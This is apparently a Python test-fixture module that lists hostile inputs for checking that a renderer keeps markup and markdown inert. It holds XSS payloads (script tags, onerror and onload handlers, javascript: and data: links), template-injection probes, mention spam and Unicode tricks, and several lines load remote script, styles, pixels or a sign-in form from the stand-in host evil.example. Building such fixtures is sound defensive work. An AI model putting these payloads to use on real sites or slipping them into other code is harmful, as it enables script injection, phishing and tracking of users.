"""What somebody might write who means harm. Each tries to call __pwned, or to reach another host."""

CALL = "window.__pwned(1)"

#: markup that must stay text
MARKUP = [
    f"<script>{CALL}</script>",
    f"</textarea></title></script><script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src='x' onerror='{CALL}'/>",
    f'"><img src=x onerror="{CALL}">',
    f"' autofocus onfocus='{CALL}' x='",
    f'" onmouseover="{CALL}" data-x="',
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video><source onerror={CALL}></video>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:{CALL}></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>Sign in</button></form>",
    "<a href=//evil.example ping=//evil.example/p>x</a>",
    "<img src=//evil.example/pixel.png>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<template><img src=x onerror={CALL}></template>",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"\\x3cimg src=x onerror={CALL}\\x3e",
]
#: markdown that must not become a way out
MARKDOWN = [
    f"[click](javascript:{CALL})",
    f"[click](JaVaScRiPt:{CALL})",
    f"[click](data:text/html,<script>{CALL}</script>)",
    f"[click](vbscript:{CALL})",
    f'[click](https://evil.example "onmouseover={CALL}")',
    "![pixel](https://evil.example/pixel.png)",
    f"![x](x' onerror='{CALL})",
    f"<javascript:{CALL}>",
    "[x]: javascript:window.__pwned(1)\n[x]",
    f"```html\n<script>{CALL}</script>\n```",
    f"`<img src=x onerror={CALL}>`",
    f"| a |\n| --- |\n| <img src=x onerror={CALL}> |",
    f"- [x] <img src=x onerror={CALL}>",
]
#: names and signs that must not reach anybody or anything
SIGNS = [
    "@here @channel @everyone <!here> <!channel> <@U1> <#C1|general>",
    f'@ada"onmouseover="{CALL}" #4"onclick="{CALL}"',
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.__pwned(1)')()}}",
    "\N{RIGHT-TO-LEFT MARK}evil.example\N{LEFT-TO-RIGHT MARK} \N{HEBREW LETTER ALEF}\N{HEBREW LETTER BET} <b>x</b>",
    "A" * 180,
    "https://evil.example/" + "a/" * 80,
    "ﷺ" * 20 + "𒐫" * 10 + "e\N{COMBINING ACUTE ACCENT}" + "\N{COMBINING ENCLOSING KEYCAP}" * 30,
]
PAYLOADS = [*MARKUP, *MARKDOWN, *SIGNS]


def packed(most: int) -> list[str]:
    """All of them, several to a text, each text at most this long and on one line."""
    texts = [""]
    for payload in (" ".join(payload.split())[:most] for payload in PAYLOADS):
        if len(texts[-1]) + len(payload) + 1 > most:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".strip()
    return texts
